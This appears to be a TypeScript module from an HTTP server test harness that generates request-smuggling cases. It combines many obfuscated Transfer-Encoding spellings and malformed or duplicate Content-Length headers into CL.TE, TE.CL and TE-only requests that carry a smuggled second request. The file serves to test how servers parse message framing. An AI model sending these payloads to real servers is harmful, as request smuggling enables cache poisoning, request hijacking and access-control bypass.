import { type Attack, attacks, smuggled } from './attack.ts';

/** Spellings of a chunked transfer encoding that all servers should read, and do not. */
const VALID = [
  'Transfer-Encoding: chunked',
  'Transfer-Encoding:chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding: chunked \t',
  'tRANSFER-eNCODING: chunked',
  'Transfer-Encoding: CHUNKED',
  'Transfer-Encoding: Chunked\r\nConnection: Transfer-Encoding',
];

/** Spellings that some servers take for a chunked transfer encoding, and others for nothing. */
const OBFUSCATED = [
  'Transfer-Encoding : chunked',
  'Transfer-Encoding\t: chunked',
  'Transfer-Encoding\x0b: chunked',
  'Transfer-Encoding\0: chunked',
  'Transfer-Encoding\r\n: chunked',
  'Transfer-Encoding chunked',
  ' Transfer-Encoding: chunked',
  '\tTransfer-Encoding: chunked',
  '\x0bTransfer-Encoding: chunked',
  '\0Transfer-Encoding: chunked',
  'Transfer\0-Encoding: chunked',
  'Transfer-Encoding\xff: chunked',
  'Transfer Encoding: chunked',
  'X: x\r\n Transfer-Encoding: chunked',
  'X: x\r\n\tTransfer-Encoding: chunked',
  'X: x\nTransfer-Encoding: chunked',
  'X: x\rTransfer-Encoding: chunked',
  'X: x\n\rTransfer-Encoding: chunked',
  'X: x\r\r\nTransfer-Encoding: chunked',
  'X: x\0\r\nTransfer-Encoding: chunked\0',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding:\n chunked',
  'Transfer-Encoding: chunked\r\n ',
  'Transfer-Encoding:\x0bchunked',
  'Transfer-Encoding:\x0cchunked',
  'Transfer-Encoding: \x0bchunked',
  'Transfer-Encoding: chunked\x0b',
  'Transfer-Encoding: chunked\x0c',
  'Transfer-Encoding: chunked\x00',
  'Transfer-Encoding: \x00chunked',
  'Transfer-Encoding: \xa0chunked',
  'Transfer-Encoding: \xffchunked',
  'Transfer-Encoding: \x7fchunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunkedx',
  'Transfer-Encoding: chunk',
  'Transfer-Encoding: x chunked',
  'Transfer-Encoding: chunked x',
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  'Transfer-Encoding: chu\tnked',
  'Transfer-Encoding: ,chunked',
  'Transfer-Encoding: chunked,',
  'Transfer-Encoding: identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: chunked, x',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: gzip',
  'Transfer-Encoding:',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
  'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding:\r\nTransfer-Encoding: chunked',
];

/** Names that say nothing of the framing, but that some servers take for one that does. */
const OTHER_NAMES = [
  'Transfer_Encoding: chunked',
  'Transfer.Encoding: chunked',
  'Transfer-Encodin: chunked',
  'X-Transfer-Encoding: chunked',
  'Content-Encoding: chunked',
];

/** Headers and a body that chunks would end at once, and a length would not. */
function clTe(line: string): Attack {
  return {
    bytes: path => {
      const body = `0\r\n\r\n${smuggled(path)}`;
      return post(path, [`Content-Length: ${body.length}`, line], body);
    },
  };
}

/** Headers and a body that a length would end early, and chunks would not. */
function teCl(line: string): Attack {
  return {
    bytes: path => {
      const inner = smuggled(path);
      const size = inner.length.toString(16);
      const body = `${size}\r\n${inner}\r\n0\r\n\r\n`;
      return post(path, [line, `Content-Length: ${size.length + 2}`], body);
    },
  };
}

/** No length: whoever does not know the encoding sees no body. */
function te(line: string): Attack {
  return {
    bytes: path => post(path, [line], `0\r\n\r\n${smuggled(path)}`),
  };
}

function post(path: string, lines: readonly string[], body: string): string {
  return `POST ${path} HTTP/1.1\r\nHost: x\r\n${lines.join('\r\n')}\r\n\r\n${body}`;
}

const withLength = [...VALID, ...OBFUSCATED].flatMap(line => [
  [`CL.TE, ${JSON.stringify(line)}`, clTe(line)],
  [`TE.CL, ${JSON.stringify(line)}`, teCl(line)],
]);
const withoutLength = OBFUSCATED.map(line => [`TE alone, ${JSON.stringify(line)}`, te(line)]);
const withOtherNames = OTHER_NAMES.map(line => [`CL.TE, ${JSON.stringify(line)}`, clTe(line)]);

/** Lengths for which there is no right reading. */
const WRONG_LENGTHS = [
  'Content-Length: 5\r\nContent-Length: 6',
  'Content-Length: 6\r\nContent-Length: 5',
  'Content-Length: 5\r\nContent-Length: 0',
  'Content-Length: 5, 6',
  'Content-Length: +5',
  'Content-Length: -5',
  'Content-Length: -0',
  'Content-Length: 0x5',
  'Content-Length: 5 5',
  'Content-Length: 5.0',
  'Content-Length: 5e0',
  'Content-Length: 5x',
  'Content-Length: "5"',
  'Content-Length: 5;',
  'Content-Length: 5\x0b',
  'Content-Length: \x0b5',
  'Content-Length: 5\0',
  'Content-Length: \xb5',
  'Content-Length: _5',
  'Content-Length: 1_0',
  'Content-Length:',
  'Content-Length: 99999999999999999999',
  'Content-Length: 18446744073709551621',
  'Content-Length : 5',
  'Content-Length\t: 5',
  'Content-Length\r\n: 5',
  'Content-Length\0: 5',
  'Content Length: 5',
  'X: x\rContent-Length: 5',
];

/** Lengths that may be read as five. */
const ODD_LENGTHS = [
  'Content-Length: 5\r\nContent-Length: 5',
  'Content-Length: 5, 5',
  'Content-Length: 05',
  'Content-Length:5',
  'Content-Length:\t5\t',
  'content-LENGTH: 5',
];

export const framing = [
  ...attacks(
    'Smuggling: transfer encodings',
    Object.fromEntries([...withLength, ...withoutLength, ...withOtherNames]),
  ),
  ...attacks('Smuggling: lengths', {
    ...Object.fromEntries(
      WRONG_LENGTHS.map(line => [
        JSON.stringify(line),
        { wrong: true, bytes: (path: string) => post(path, [line], `12345${smuggled(path)}`) },
      ]),
    ),
    ...Object.fromEntries(
      ODD_LENGTHS.map(line => [
        JSON.stringify(line),
        { body: '12345', bytes: (path: string) => post(path, [line], '12345') },
      ]),
    ),
    'a length in a folded line': {
      bytes: path => post(path, ['X: x', ' Content-Length: 50'], smuggled(path)),
    },
    'a length in a header with an underscore': {
      bytes: path => post(path, ['Content_Length: 50'], ''),
    },
    'a GET whose body is a request': {
      bytes: path =>
        `GET ${path} HTTP/1.1\r\nHost: x\r\nContent-Length: ${smuggled(path).length}\r\n\r\n${smuggled(path)}`,
    },
    'a body of HTTP/1.0 in chunks': {
      bytes: path =>
        `POST ${path} HTTP/1.0\r\nHost: x\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggled(path)}`,
    },
  }),
];
